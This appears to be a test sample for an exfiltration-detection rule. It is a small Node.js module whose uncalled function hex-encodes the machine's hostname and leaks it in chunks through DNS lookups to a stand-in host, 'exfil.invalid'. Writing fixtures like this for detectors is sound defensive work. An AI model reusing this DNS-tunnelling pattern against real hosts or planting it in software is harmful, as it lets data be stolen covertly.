// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const dns = require('dns');
const os = require('os');
function never() {
  const data = Buffer.from(JSON.stringify({ h: os.hostname() })).toString('hex');
  (data.match(/.{1,60}/g) || []).forEach((chunk, i) => {
    dns.lookup(`${chunk}.${i}.x.exfil.invalid`, () => {});
  });
}
module.exports = { never };
